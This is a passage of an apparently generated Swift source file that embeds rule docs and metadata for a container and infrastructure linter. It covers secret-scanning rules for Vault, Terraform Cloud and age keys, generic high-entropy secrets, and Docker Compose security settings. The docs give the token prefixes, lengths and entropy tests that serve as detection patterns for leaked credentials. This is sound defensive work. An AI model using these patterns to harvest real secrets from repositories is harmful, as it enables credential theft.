  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC027.md", text: ###"""
---
id: SEC027
title: HashiCorp Vault or Terraform Cloud token committed
kind: any
severity: error
tags: [security]
security-severity: 9.0
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://developer.hashicorp.com/vault/docs/concepts/tokens#token-prefixes
  - https://developer.hashicorp.com/terraform/cloud-docs/users-teams-organizations/api-tokens
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "vault-service-token, vault-batch-token, hashicorp-tf-api-token"
  trufflehog: "TerraformCloudPersonalToken"
---
Reports HashiCorp Vault service and batch tokens (`hvs.`, `hvb.`) and Terraform Cloud / HCP Terraform API tokens (`….atlasv1.…`).

## Detectors
| detector | matches |
|---|---|
| `vault-token` | `hvs.` (service) or `hvb.` (batch) and 90+ URL-safe characters |
| `terraform-cloud-token` | 14 letters or digits, `.atlasv1.`, 60–70 URL-safe characters |

## Why
A Vault token reads the secrets its policies allow — often all of them; a Terraform Cloud token runs plans and applies and reads state, which holds every secret the infrastructure uses.

## How to fix
Revoke the token (`vault token revoke`, or the HCP Terraform user/team token page), use short-lived tokens from an auth method (AppRole, OIDC, Kubernetes), and keep CLI credentials in `~/.terraform.d/credentials.tfrc.json` or `TF_TOKEN_app_terraform_io`, never in `.tf` files.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```hcl
provider "tfe" {
  token = "….atlasv1.…"
}
```

Not reported:

```hcl
provider "tfe" {
  hostname = "app.terraform.io"   # token from TF_TOKEN_app_terraform_io
}
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC028.md", text: ###"""
---
id: SEC028
title: age secret key committed
kind: any
severity: error
tags: [security]
security-severity: 8.5
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://age-encryption.org/v1
  - https://github.com/getsops/sops#encrypting-using-age
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "age-secret-key"
---
Reports age identities (`AGE-SECRET-KEY-1` and 58 bech32 characters), often committed next to SOPS-encrypted files. Recipients (`age1…`) are public keys and are not reported.

## Detectors
| detector | matches |
|---|---|
| `age-secret-key` | `AGE-SECRET-KEY-1` and 58 bech32 characters |

## Why
The identity decrypts every file encrypted to it: committing it beside SOPS files undoes their encryption, in the whole history.

## How to fix
Generate a new identity (`age-keygen`), re-encrypt the files to the new recipient (`sops updatekeys`), rotate the secrets the old key protected, and keep the identity in a secret store or `SOPS_AGE_KEY_FILE` outside the repository.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```dotenv
SOPS_AGE_KEY=AGE-SECRET-KEY-1…
```

Not reported:

```dotenv
SOPS_AGE_KEY_FILE=/run/secrets/age-identity.txt
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC029.md", text: ###"""
---
id: SEC029
title: Literal high-entropy secret assigned to a secret-named key
kind: any
severity: warning
tags: [security]
security-severity: 7.0
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://cheatsheetseries.owasp.org/cheatsheets/Secrets_Management_Cheat_Sheet.html
  - https://docs.docker.com/build/building/secrets/
  - https://kubernetes.io/docs/concepts/configuration/secret/
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "generic-api-key"
  checkov: "CKV_SECRET_6, CKV_SECRET_10, CKV_SECRET_19"
---
Reports a key whose name says it holds a secret (`password`, `passwd`, `passphrase`, `secret`, `token`, `api_key`, `access_key`, `private_key`, `auth_key`, `signing_key`, `encryption_key`, `master_key`, in any case and with `_`, `-`, `.` or none between the words) assigned a literal value that looks generated: long enough, mixed, and of high Shannon entropy. It reads `=`, `:`, `:=`, `=>` assignments in YAML, JSON, HCL, `.env` and shell forms, Dockerfile `ENV`/`ARG` (both forms), Kubernetes `- name:` / `value:` pairs and HCL variable defaults.

## Detectors
| detector | matches |
|---|---|
| `generic-secret-assignment` | `KEY=value`, `key: value`, `"key": "value"`, `key = "value"`, `--key=value` where the key names a secret and the literal value is random-looking |
| `generic-dockerfile-env-legacy` | Dockerfile `ENV KEY value` / `ARG KEY value` (legacy space-separated form), same value test |
| `generic-name-value-pair` | Kubernetes `- name: API_TOKEN` followed (in the same item) by `value: <literal>`, same value test |
| `generic-hcl-variable-default` | HCL `variable "db_password" { default = "<literal>" }`, same value test |

## Why
Provider formats (SEC001–SEC028) catch tokens by their prefixes; most application secrets have none — session keys, signing keys, database and service passwords, internal API tokens. A random-looking literal under a secret's name is almost always a real one, and it is now in every clone of the repository. Human-chosen weak values (`changeme`, `UberSecretPassword`) are a different problem — an unset secret rather than a leaked one — reported by the compose and Kubernetes rules about hard-coded credentials, not here.

## How to fix
If the value is real, rotate it. Then read it at run time: `${VAR}` from an untracked `.env` or the shell in compose, a Secret through `secretKeyRef` in Kubernetes, `${{ secrets.NAME }}` in workflows, a `sensitive` variable or a secrets-manager data source in HCL, `RUN --mount=type=secret` at Docker build time. Commit a `.env.example` with empty values or placeholders.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```dotenv
SESSION_SECRET=7Hq…   # 32 random characters
```

Not reported:

```dotenv
# .env.example
SESSION_SECRET=change-me
```

## What counts as a literal, random-looking value
A value is reported when all of these hold (the code is `SecretConfirmation.keyedLiteral` and
`SecretValueShape`):

1. **The key holds the value itself**, not a setting about it: keys ending in `_FILE`, `_PATH`, `_NAME`,
   `Ref`, `_ID`, `_URL`, `_TYPE`, `_LENGTH`, `_TTL`, `_HEADER`, `_USER`… (`DB_PASSWORD_FILE`, `secretName`,
   `token_url`, `password_length`) are skipped, and so are language-model settings (`tokenizer`,
   `max_tokens`).
2. **It is a literal.** In HCL only quoted strings count (unquoted values are expressions: `var.x`,
   `local.x`, `random_password.db.result`); `${…}` interpolation anywhere is a reference. Values that are
   placeholders or references (see below), contain a space, contain `://` (URLs: SEC017 reads those), repeat
   the key, or are dotted identifiers (`settings.API_TOKEN`) are skipped.
3. **It is not made of words**: `my-app-secret-v2`, `UberSecretPassword`, `Password$123456` — words joined by
   separators or case changes, with short digit groups — are skipped, as are values containing `password`,
   `secret`, `admin`, `qwerty` and similar human choices, and Stripe test or publishable keys.
4. **It looks generated.** At least 12 characters, at least two of lower case, upper case, digits and
   symbols, and a Shannon entropy (bits per character, over its bytes) of at least
   `min(3.5, 0.85 × log2(length))`. Values made only of hex digits need 20 characters, digits and letters,
   and 3.0 bits. On 2,000 random strings per length, fewer than 1 % of random 12-character base62 strings
   fall under this line; `mysecretpassword` (3.45 bits) and `correct-horse-battery-staple` (3.49) are kept
   out by the class and word tests.

A Kubernetes Secret's `data:` values are base64: when a value decodes to text, the decoded text is judged
(`UGFzc3dvcmQkMTIzNDU2` is `Password$123456`, not random).

**In comments**, this rule reads only commented-out assignments — the key must open the comment's text
(`# API_TOKEN=…`, `# - SECRET_KEY: …`, `// password = "…"`), so prose that mentions a token
(`# set the api token: …`) is not read. The provider formats (SEC001–SEC028) are reported anywhere in a
comment: their shape is the evidence.

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
    ]

    /// Front matter and summary of each doc, parsed with `YAMLParser` at generation time.
    static let generatedMetadata: [RuleMetadata] = [
        RuleMetadata(
            id: "DC001", title: "Service runs privileged", kind: "compose", severity: .error,
            tags: ["security"], securitySeverity: "9.0",
            references: ["CIS Docker Benchmark, 5.4: Ensure that privileged containers are not used", "https://docs.docker.com/reference/compose-file/services/#privileged"],
            equivalents: [],
            options: [],
            summary: "Reports a service with `privileged: true` (YAML 1.1 spellings such as `yes` included), at the `privileged` setting.",
            sourcePath: "Rules/compose/DC001.md"
        ),
        RuleMetadata(
            id: "DC002", title: "Dangerous capability added", kind: "compose", severity: .warning,
            tags: ["security"], securitySeverity: "7.5",
            references: ["CIS Docker Benchmark, 5.3: Ensure that Linux kernel capabilities are restricted within containers", "https://docs.docker.com/reference/compose-file/services/#cap_add", "https://man7.org/linux/man-pages/man7/capabilities.7.html"],
            equivalents: [],
            options: [],
            summary: "Reports each `cap_add` entry that grants a capability outside Docker's default set and known to break isolation: `ALL`, `SYS_ADMIN`, `NET_ADMIN`, `SYS_PTRACE`, `SYS_MODULE`, `SYS_RAWIO`, `SYS_BOOT`, `SYS_TIME`, `DAC_READ_SEARCH`, `BPF`, `PERFMON`, `MAC_ADMIN`, `MAC_OVERRIDE` (with or without the `CAP_` prefix, any case).",
            sourcePath: "Rules/compose/DC002.md"
        ),
        RuleMetadata(
            id: "DC003", title: "Service shares a host namespace", kind: "compose", severity: .warning,
            tags: ["security"], securitySeverity: "7.0",
            references: ["CIS Docker Benchmark, 5.9: Ensure that the host's network namespace is not shared", "CIS Docker Benchmark, 5.15: Ensure that the host's process namespace is not shared", "CIS Docker Benchmark, 5.16: Ensure that the host's IPC namespace is not shared", "CIS Docker Benchmark, 5.20: Ensure that the host's UTS namespace is not shared", "https://docs.docker.com/reference/compose-file/services/#network_mode"],
            equivalents: [],
            options: [],
            summary: "Reports `network_mode: host`, `pid: host`, `ipc: host`, `uts: host` and `userns_mode: host`, at the value.",
            sourcePath: "Rules/compose/DC003.md"
        ),
        RuleMetadata(
            id: "DC004", title: "Docker socket or sensitive host path mounted", kind: "compose", severity: .error,
            tags: ["security"], securitySeverity: "9.0",
            references: ["CIS Docker Benchmark, 5.31: Ensure that the Docker socket is not mounted inside any containers", "CIS Docker Benchmark, 5.5: Ensure sensitive host system directories are not mounted on containers", "https://docs.docker.com/reference/compose-file/services/#volumes"],
            equivalents: [],
            options: [],
            summary: "Reports a bind mount of a container runtime socket (`docker.sock`, `containerd.sock`, `podman.sock`, `crio.sock`) or of a sensitive host directory (`/`, `/etc`, `/root`, `/boot`, `/var/lib/docker`, `/run`, `/var/run`), in the short and long volume syntax, at the mount's source. A read-only mount of a directory is reported as a warning; a socket is an error whatever the mode, because the API behind it accepts writes.",
            sourcePath: "Rules/compose/DC004.md"
        ),
        RuleMetadata(
            id: "DC005", title: "Datastore port published on all interfaces", kind: "compose", severity: .warning,
            tags: ["security"], securitySeverity: "7.5",
            references: ["CIS Docker Benchmark, 5.13: Ensure that incoming container traffic is bound to a specific host interface", "https://docs.docker.com/engine/network/packet-filtering-firewalls/", "https://github.com/moby/moby/issues/4737", "https://docs.docker.com/reference/compose-file/services/#ports"],
            equivalents: [],
            options: [],
            summary: "Reports a `ports:` entry (short or long syntax) whose container port is a well-known database, cache or broker port — PostgreSQL 5432, MySQL 3306, Redis 6379, MongoDB 27017, Elasticsearch 9200/9300, RabbitMQ 5672, Memcached 11211, SQL Server 1433, Kafka 9092 and others — published without a host address, or on `0.0.0.0`/`::`. A container-only entry (`- \"5432\"`) counts: Docker publishes it on a random host port on every interface. Entries bound to a specific address (`127.0.0.1`, `::1`, a private IP) or whose address comes from a variable without default are not reported.",
            sourcePath: "Rules/compose/DC005.md"
        ),
        RuleMetadata(
            id: "DC006", title: "Long-running service without a health check", kind: "compose", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["CIS Docker Benchmark, 5.26: Ensure that container health is checked at runtime", "https://docs.docker.com/reference/compose-file/services/#healthcheck", "https://docs.docker.com/reference/compose-file/services/#depends_on"],
            equivalents: [],
            options: [],
            summary: "Reports a service with no `healthcheck` (at its name) or with the health check disabled (`disable: true` or `test: [\"NONE\"]`, at `healthcheck`). One-shot services are skipped: `restart: \"no\"` or `on-failure`, a restart policy of `none`/`on-failure`, or a service others wait for with `condition: service_completed_successfully`. Services in override files and services that `extends` another are skipped (the base may define the check). A service built from a local Dockerfile is reported as a note, since its Dockerfile may declare `HEALTHCHECK`.",
            sourcePath: "Rules/compose/DC006.md"
        ),
        RuleMetadata(
            id: "DC007", title: "Dependency does not wait for health", kind: "compose", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/compose-file/services/#depends_on", "https://docs.docker.com/compose/how-tos/startup-order/"],
            equivalents: [],
            options: [],
            summary: "Reports a `depends_on` entry — list form, or map form without `condition` — on a service that defines an enabled `healthcheck`, at the dependency's name. An explicit `condition: service_started` is reported as a note, since it may be deliberate.",
            sourcePath: "Rules/compose/DC007.md"
        ),
        RuleMetadata(
            id: "DC008", title: "Image not pinned", kind: "compose", severity: .warning,
            tags: ["reliability", "security"], securitySeverity: "4.0",
            references: ["CIS Docker Benchmark, 5.27: Ensure that Docker commands always make use of the latest version of their image", "https://docs.docker.com/reference/compose-file/services/#image", "https://docs.docker.com/reference/cli/docker/image/pull/#pull-an-image-by-digest-immutable-identifier"],
            equivalents: [],
            options: [],
            summary: "Reports an `image:` without a tag (which means `latest`) or tagged `latest`, at the value, unless it has a digest. Interpolation is resolved with its defaults (`${TAG:-latest}` is reported); an image that depends on a variable without default is not judged. Services with `build:` are skipped: there `image` names what is built.",
            sourcePath: "Rules/compose/DC008.md"
        ),
        RuleMetadata(
            id: "DC009", title: "No restart policy", kind: "compose", severity: .note,
            tags: ["reliability"], securitySeverity: nil,
            references: ["CIS Docker Benchmark, 5.14: Ensure that the 'on-failure' container restart policy is set to '5'", "https://docs.docker.com/reference/compose-file/services/#restart"],
            equivalents: [],
            options: [],
            summary: "Reports a service with neither `restart` nor `deploy.restart_policy`, at its name. Skipped: override files, services that `extends` another, services with `replicas: 0`, and services others wait for with `condition: service_completed_successfully`.",
            sourcePath: "Rules/compose/DC009.md"
        ),
        RuleMetadata(
            id: "DC010", title: "No memory or CPU limit", kind: "compose", severity: .note,
            tags: ["reliability", "cost"], securitySeverity: nil,
            references: ["CIS Docker Benchmark, 5.10: Ensure that the memory usage for containers is limited", "CIS Docker Benchmark, 5.11: Ensure that CPU priority is set appropriately on containers", "https://docs.docker.com/reference/compose-file/deploy/#resources"],
            equivalents: [],
            options: [],
            summary: "Reports a service without a memory limit (`deploy.resources.limits.memory` or the legacy `mem_limit`) or without a CPU limit (`deploy.resources.limits.cpus` or `cpus`), once per service at its name, naming what is missing. Skipped in override files, for services that `extends` another and for `replicas: 0`.",
            sourcePath: "Rules/compose/DC010.md"
        ),
        RuleMetadata(
            id: "DC011", title: "Service runs as root", kind: "compose", severity: .warning,
            tags: ["security"], securitySeverity: "6.0",
            references: ["CIS Docker Benchmark, 4.1: Ensure that a user for the container has been created", "https://docs.docker.com/reference/compose-file/services/#user"],
            equivalents: [],
            options: [],
            summary: "Reports `user: root`, `user: \"0\"` and their `:group` forms, at the value (interpolation defaults applied). A service without `user:` is not reported here: the image decides, and the Dockerfile rules judge it.",
            sourcePath: "Rules/compose/DC011.md"
        ),
        RuleMetadata(
            id: "DC012", title: "no-new-privileges not set", kind: "compose", severity: .note,
            tags: ["security"], securitySeverity: "4.0",
            references: ["CIS Docker Benchmark, 5.25: Ensure that the container is restricted from acquiring additional privileges", "https://docs.docker.com/reference/compose-file/services/#security_opt"],
            equivalents: [],
            options: [],
            summary: "Reports a service whose `security_opt` does not contain `no-new-privileges:true` (also accepted: `no-new-privileges` and `no-new-privileges=true`), at its name; an explicit `no-new-privileges:false` is reported at that entry. Privileged services (DC001's finding) and, for the missing option, override files and services that `extends` another are skipped.",
            sourcePath: "Rules/compose/DC012.md"
        ),
        RuleMetadata(
            id: "DC013", title: "Literal secret in environment", kind: "compose", severity: .warning,
            tags: ["security"], securitySeverity: "7.0",
            references: ["https://docs.docker.com/compose/how-tos/use-secrets/", "https://docs.docker.com/reference/compose-file/services/#environment", "OWASP Top 10 2021, A07: Identification and Authentication Failures (hard-coded credentials, CWE-798)"],
            equivalents: [],
            options: [],
            summary: "Reports an `environment` entry (list `KEY=value` or map `KEY: value` form) whose name holds a credential — it contains PASSWORD, PASSWD, SECRET, TOKEN, API_KEY, ACCESS_KEY, PRIVATE_KEY, CREDENTIALS, or ends in `_PASS`/`_PWD` — and whose value is a literal, at the value. Not reported: values with interpolation (`${DB_PASSWORD}`, see DC014), empty values, booleans, `/run/secrets/…` paths, obvious placeholders (`changeme`, `<token>`, `xxxx`), and names that describe rather than hold a credential (`PASSWORD_FILE`, `TOKEN_URL`, `SECRET_NAME`, `PASSWORD_MIN_LENGTH`). The value is redacted in every output.",
            sourcePath: "Rules/compose/DC013.md"
        ),
        RuleMetadata(
            id: "DC014", title: "Secret variable without default or guard", kind: "compose", severity: .warning,
            tags: ["security", "reliability"], securitySeverity: "5.0",
            references: ["https://docs.docker.com/reference/compose-file/interpolation/", "https://docs.docker.com/compose/how-tos/environment-variables/variable-interpolation/"],
            equivalents: [],
            options: [],
            summary: "Reports an interpolation `$VAR` or `${VAR}` (no `:-`/`-` default, no `:?`/`?` guard) anywhere in the file when the variable's name holds a credential, or when it is the value of an `environment` entry whose name does, at the `${…}` with exact columns.",
            sourcePath: "Rules/compose/DC014.md"
        ),
        RuleMetadata(
            id: "DC015", title: "Reference to an undefined service", kind: "compose", severity: .error,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/compose-file/services/#depends_on", "https://docs.docker.com/reference/compose-file/services/#links", "https://docs.docker.com/reference/compose-file/services/#volumes_from", "https://docs.docker.com/reference/compose-file/services/#network_mode", "https://docs.docker.com/reference/compose-file/services/#extends"],
            equivalents: [],
            options: [],
            summary: "Reports a `depends_on` entry (unless `required: false`), a `links` entry, a `volumes_from: [service:]name`, a `network_mode: service:name` or a same-file `extends: { service: … }` that names a service this file does not define, at the name. Quiet for files that may be combined with others: override files (`*.override.*`, `*.dev.*`, `*.test.*`, `*.local.*`, `*.ci.*`…, or a file with a service lacking `image`, `build` and `extends`), add-on files whose name has a middle part (`compose.monitoring.yaml`, `docker-compose.images.yml`), and files with `include:`.",
            sourcePath: "Rules/compose/DC015.md"
        ),
        RuleMetadata(
            id: "DC016", title: "Named volume not declared", kind: "compose", severity: .error,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/compose-file/volumes/", "https://docs.docker.com/reference/compose-file/services/#volumes"],
            equivalents: [],
            options: [],
            summary: "Reports a service volume whose source is a name (not a path: it does not start with `/`, `.`, `~` or a drive letter) that the top-level `volumes:` does not declare, in short and long syntax, at the source. Same quiet cases as DC015.",
            sourcePath: "Rules/compose/DC016.md"
        ),
        RuleMetadata(
            id: "DC017", title: "Network not declared", kind: "compose", severity: .error,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/compose-file/networks/", "https://docs.docker.com/reference/compose-file/services/#networks"],
            equivalents: [],
            options: [],
            summary: "Reports a service network (list item or mapping key under the service's `networks:`) that the top-level `networks:` does not declare, other than `default`, at the name. Same quiet cases as DC015.",
            sourcePath: "Rules/compose/DC017.md"
        ),
        RuleMetadata(
            id: "DC018", title: "Host port published twice", kind: "compose", severity: .error,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/compose-file/services/#ports"],
            equivalents: [],
            options: [],
            summary: "Reports a port mapping whose host port (or range) overlaps one published earlier in the file with the same protocol on an overlapping address (no address and `0.0.0.0` overlap every address), at the later entry with the first as related location. Entries whose host port or address depend on a variable without default are skipped, and so are services in disjoint `profiles`.",
            sourcePath: "Rules/compose/DC018.md"
        ),
        RuleMetadata(
            id: "DC019", title: "Obsolete top-level version", kind: "compose", severity: .note,
            tags: ["maintainability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/compose-file/version-and-name/", "https://github.com/compose-spec/compose-spec/blob/main/spec.md#version-top-level-element-obsolete"],
            equivalents: [],
            options: [],
            summary: "Reports the top-level `version:` key, from the key to the end of its value.",
            sourcePath: "Rules/compose/DC019.md"
        ),
        RuleMetadata(
            id: "DC020", title: "json-file logs without rotation", kind: "compose", severity: .note,
            tags: ["reliability", "cost"], securitySeverity: nil,
            references: ["https://docs.docker.com/engine/logging/drivers/json-file/", "https://docs.docker.com/reference/compose-file/services/#logging"],
            equivalents: [],
            options: [],
            summary: "Reports a service whose `logging.driver` is `json-file` without a `max-size` option, at the driver. Services that leave the driver to the daemon's default are not reported (the daemon's `log-opts` may rotate).",
            sourcePath: "Rules/compose/DC020.md"
        ),
        RuleMetadata(
            id: "DC021", title: "container_name with several replicas", kind: "compose", severity: .error,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/compose-file/services/#container_name", "https://docs.docker.com/reference/compose-file/deploy/#replicas"],
            equivalents: [],
            options: [],
            summary: "Reports `container_name` on a service that asks for more than one container (`deploy.replicas` or the legacy `scale`), at `container_name`, with the replica setting as related location.",
            sourcePath: "Rules/compose/DC021.md"
        ),
        RuleMetadata(
            id: "DC022", title: "Confinement disabled", kind: "compose", severity: .warning,
            tags: ["security"], securitySeverity: "7.0",
            references: ["CIS Docker Benchmark, 5.21: Ensure the default seccomp profile is not Disabled", "CIS Docker Benchmark, 5.1: Ensure that, if applicable, an AppArmor Profile is enabled", "CIS Docker Benchmark, 5.2: Ensure that, if applicable, SELinux security options are set", "https://docs.docker.com/reference/compose-file/services/#security_opt"],
            equivalents: [],
            options: [],
            summary: "Reports `security_opt` entries that turn confinement off: `seccomp:unconfined`, `apparmor:unconfined`, `label:disable` and `systempaths=unconfined` (either `:` or `=`), at the entry.",
            sourcePath: "Rules/compose/DC022.md"
        ),
        RuleMetadata(
            id: "DC023", title: "service_healthy on a service without health check", kind: "compose", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/compose-file/services/#depends_on", "https://docs.docker.com/reference/compose-file/services/#healthcheck"],
            equivalents: [],
            options: [],
            summary: "Reports `condition: service_healthy` on a dependency whose health check is disabled, or that defines none and is not built from a local Dockerfile (whose `HEALTHCHECK` compose would use), at the condition. Skipped when the dependency may get its settings elsewhere (override files, `extends`).",
            sourcePath: "Rules/compose/DC023.md"
        ),
        RuleMetadata(
            id: "DC024", title: "Secret or config not declared", kind: "compose", severity: .error,
            tags: ["reliability", "security"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/compose-file/secrets/", "https://docs.docker.com/reference/compose-file/configs/"],
            equivalents: [],
            options: [],
            summary: "Reports a service's `secrets:` or `configs:` entry (short form, or long form `source`) that the top-level `secrets:`/`configs:` does not declare, at the name. Same quiet cases as DC015.",
            sourcePath: "Rules/compose/DC024.md"
        ),
        RuleMetadata(
            id: "DC025", title: "Malformed interpolation", kind: "compose", severity: .error,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/compose-file/interpolation/"],
            equivalents: [],
            options: [],
            summary: "Reports a malformed `${…}` anywhere in the file — unterminated, empty (`${}`), a name that does not start with a letter or `_` (`${1}`), or an operator other than `:-`, `-`, `:?`, `?`, `:+`, `+` after the name — at the exact columns of the bad expression.",
            sourcePath: "Rules/compose/DC025.md"
        ),
        RuleMetadata(
            id: "DF001", title: "Final stage runs as root", kind: "dockerfile", severity: .warning,
            tags: ["security"], securitySeverity: "6.5",
            references: ["CIS Docker Benchmark v1.6.0, 4.1: Ensure that a user for the container has been created", "https://docs.docker.com/reference/dockerfile/#user", "https://docs.docker.com/build/building/best-practices/#user"],
            equivalents: [(tool: "checkov", id: "CKV_DOCKER_3, CKV_DOCKER_8"), (tool: "hadolint", id: "DL3002")],
            options: [],
